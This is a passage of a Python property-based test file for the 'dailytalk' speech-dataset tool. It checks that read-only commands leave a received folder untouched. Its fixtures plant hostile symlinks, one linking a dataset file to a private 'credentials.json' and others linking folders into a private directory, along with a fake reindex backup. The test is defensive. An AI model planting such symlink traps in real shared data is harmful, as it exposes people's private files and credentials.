    if how == "edits":
        draw(spoilt_file(path, private))
    elif how == "link":
        name = draw(st.sampled_from((file, path.name, ".dailytalk-lock")))
        how = f"{name} is {draw(hostile.displaced(root / name, private))}"
    elif how == "folder":
        linked = (
            root / "tagged/more" if layout == "tagged" else draw(st.sampled_from((aside, root / audio / "more")))
        )
        linked.symlink_to(private)
    return how


def spoil_backup(draw: Callable[[Any], Any], layout: str, root: Path, private: Path) -> str:
    """A backup of a reindex by a stranger."""
    folder = root.parent / ".dailytalk-reindex" / root.name / "0001"
    (folder / "folder").mkdir(parents=True)
    match draw(st.integers(0, 2)):
        case 0:
            (folder / "above").mkdir()
            (folder / "above" / "whisper.json").symlink_to(private / "credentials.json")
        case 1:
            (folder / "above").symlink_to(private)
        case 2:
            (folder / "above").mkdir()
            (folder / "above" / "whisper.json").write_bytes(b"{}")
            (folder / "undone-above").symlink_to(private)
    return "0001"


def state(root: Path) -> dict[str, tuple[int, ...]]:
    """What is in a folder, and when it was written."""
    found = {path: path.lstat() for path in root.rglob("*")}
    return {str(path): (at.st_mode, at.st_size, at.st_mtime_ns, at.st_ino) for path, at in found.items()}


def review(root: Path) -> None:
    """What `dailytalk review` does with a folder that is opened, looked at and closed."""
    editable = from_app("review.layouts").open_editable(root)
    session = from_app("review.session").Session(editable, "x") if editable else None
    for name in editable.names() if editable and session else ():
        session.item(name)
    if session:
        session.items()
        for _ in range(3):
            session.undo("x")


@drawn(300)
def test_a_folder_that_was_sent_is_changed_by_no_command_that_reads_and_left_by_none(
    data: st.DataObject, room: Room, sent: Path
) -> None:
    layout = data.draw(st.sampled_from([*LAYOUTS]))
    root = room.begin() / "theirs"
    if layout == "tagged":
        tagged(root)
    else:
        shutil.copytree(sent / layout, root)
    spoil = data.draw(st.sampled_from((spoil_edits, spoil_edits, spoil_backup)))
    note(f"{layout}: {spoil(data.draw, layout, root, room.private)}")
    form, before = "ljspeech" if layout == "clips" else "moshi", state(root)
    reading: dict[str, tuple[Any, ...]] = {
        "check": (), "status": (), "silences": (), "report": ("--out", room.out / "page.html"), "plan": EMBEDDED,
        "export": ("--format", form, "--out", room.out / "x"), "mix": ("--out", room.out / "mix"),
        "push": ("me/x", "--tag", "v1", "--dry-run"),
    }  # fmt: skip
    for command in data.draw(st.lists(st.sampled_from([*reading]), min_size=2, max_size=2, unique=True)):
        room.run(command, root, *reading[command])
    with room.watched(), contextlib.suppress(DailytalkError):
        for row in open_items(root).rows():
            str(row)
    assert state(root) == before
    for settles in data.draw(st.permutations(("review", "reindex", "undo")))[:2]:
        if settles == "review":
            with room.watched(), contextlib.suppress(DailytalkError, OSError):
                review(root)
        else:
            room.run("reindex", root, *(("--undo",) if settles == "undo" else ()))
